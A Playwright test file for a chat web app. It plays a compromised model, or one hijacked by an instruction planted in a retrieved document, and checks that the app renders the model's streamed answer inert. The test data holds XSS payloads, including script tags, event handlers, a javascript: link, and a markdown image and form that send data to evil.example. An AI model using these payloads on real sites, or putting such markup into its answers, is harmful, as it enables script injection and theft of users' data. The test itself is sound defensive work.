import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import type { TestServer } from '../helpers/test-server.ts'
import { screenshot, watchPage } from './helpers/browser.ts'
import { signIn } from './helpers/sign-in.ts'
import { closeWebSuite, openWebSuite } from './helpers/web-server.ts'

/*
 * A compromised model (or a planted instruction in a retrieved document) controls the answer text. The test plays
 * that model at the network edge: Playwright answers the browser's POST /api/chat with a hostile stream, and the
 * real built app, served by the real server under its real CSP, renders it through web/src/render/markdown.ts.
 * No test-only page or global hook is added to the app. The assertions inspect the DOM, so they fail if the
 * sanitizer lets markup through even where the CSP would still have blocked it.
 */
const EVIL = 'http://evil.example'
const HOSTILE_ANSWER = [
  'Here is the summary. <script>window.__xss = "script"</script>',
  '',
  `<img src="${EVIL}/pixel.png" onerror="window.__xss = 'onerror'">`,
  '',
  `![exfil](${EVIL}/leak.png?data=secret)`,
  '',
  '[click me](javascript:window.__xss="js-link")',
  '',
  `[phishing](${EVIL}/login)`,
  '',
  '[policy page](/my-data)',
  '',
  '<a href="/search" onclick="window.__xss=\'onclick\'">inline anchor</a>',
  '',
  `<iframe src="${EVIL}/frame"></iframe><svg onload="window.__xss='svg'"></svg><style>body{display:none}</style>`,
  '',
  '<form action="https://evil.example/steal"><input name="pw"></form>',
  '',
  '**bold** and `code` survive.',
].join('\n')

function sseBody(answer: string): string {
  const done = {
    conversationId: '8f0c4f9e-0000-4000-8000-000000000001', messageId: '8f0c4f9e-0000-4000-8000-000000000002',
    answer, classification: 'internal', provider: 'openai-compatible', model: 'compromised-model',
    citations: [{ documentId: 'd1', chunkId: 'c1', title: '<img src=x onerror=alert(1)>Policy', classification: 'internal', page: 2, snippet: '<script>alert(2)</script> snippet' }],
  }
  const tokens = answer.match(/[\s\S]{1,40}/g) ?? []
  return [
    ...tokens.map((text) => `event: token\ndata: ${JSON.stringify({ text })}\n\n`),
    `event: done\ndata: ${JSON.stringify(done)}\n\n`,
  ].join('')
}

async function answerHostile(page: Page, origin: string): Promise<void> {
  await page.route(`${origin}/api/chat`, (route) => route.fulfill({
    status: 200, headers: { 'content-type': 'text/event-stream', 'cache-control': 'no-store' }, body: sseBody(HOSTILE_ANSWER),
  }))
}

describe('web UI: a hostile model answer is rendered inert', () => {
  let t: TestServer
  let browser: Browser

  before(async () => ({ t, browser } = await openWebSuite()))

  after(() => closeWebSuite(t, browser))

  it('when the streamed answer carries scripts, handlers, external images and foreign links, then none of it becomes live', async () => {
    const page = await browser.newPage()
    const watch = await watchPage(page, t.origin)
    await signIn(page, t.origin, 'alice')
    await answerHostile(page, t.origin)
    await page.getByLabel('Your question').fill('Summarise the policy')
    await page.keyboard.press('Enter')
    const answer = page.locator('.message-assistant').last()
    await answer.locator('.citations').waitFor()
    await page.waitForTimeout(300)

    const report = await answer.evaluate((el) => {
      const body = el.querySelector('.message-body') as HTMLElement
      const all = Array.from(body.querySelectorAll('*'))
      return {
        tags: [...new Set(all.map((n) => n.tagName.toLowerCase()))].sort(),
        attributes: [...new Set(all.flatMap((n) => n.getAttributeNames()))].sort(),
        links: Array.from(body.querySelectorAll('a')).map((a) => ({ href: a.getAttribute('href'), target: a.target, rel: a.rel, text: a.textContent })),
        text: body.textContent ?? '',
        citationTitle: el.querySelector('.citation-title')?.textContent,
        xss: (window as unknown as { __xss?: string }).__xss ?? null,
      }
    })
    await screenshot(page, 'xss-hostile-answer')

    assert.equal(report.xss, null)
    for (const tag of ['script', 'img', 'iframe', 'svg', 'style', 'form', 'input']) assert.ok(!report.tags.includes(tag), `<${tag}> rendered`)
    assert.deepEqual(report.attributes.filter((a) => !['href', 'target', 'rel'].includes(a)), [])
    assert.deepEqual(report.links, [{ href: '/my-data', target: '_blank', rel: 'noopener noreferrer', text: 'policy page' }])
    // Foreign and script links keep their words but lose the link.
    assert.match(report.text, /click me/)
    assert.match(report.text, /phishing/)
    // Raw HTML from the model is shown as text, not executed or silently dropped.
    assert.match(report.text, /<script>window\.__xss = "script"<\/script>/)
    assert.match(report.text, /exfil/)
    assert.equal(report.citationTitle, '<img src=x onerror=alert(1)>Policy')
    assert.ok(report.tags.includes('strong') && report.tags.includes('code'))
    assert.deepEqual(watch.foreignRequests, [])
    assert.deepEqual(watch.cspViolations, [])
    assert.deepEqual(watch.pageErrors, [])

    await answer.getByRole('button', { name: /Open passage/ }).click()
    const dialog = page.getByRole('dialog')
    await dialog.waitFor()
    assert.match(await dialog.innerText(), /<script>alert\(2\)<\/script> snippet/)
    assert.equal(await dialog.locator('script').count(), 0)
    await screenshot(page, 'xss-passage-dialog', { fullPage: false })
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'hidden' })
    await page.close()
  })
})
